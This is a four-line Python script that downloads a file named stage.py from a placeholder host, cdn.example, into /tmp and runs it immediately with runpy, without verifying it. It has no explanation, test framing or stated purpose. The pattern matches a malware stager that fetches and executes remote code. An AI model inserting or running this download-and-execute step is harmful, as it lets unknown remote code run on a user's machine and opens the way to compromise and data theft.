import runpy
import urllib.request

urllib.request.urlretrieve("https://cdn.example/stage.py", "/tmp/stage.py")
runpy.run_path("/tmp/stage.py")
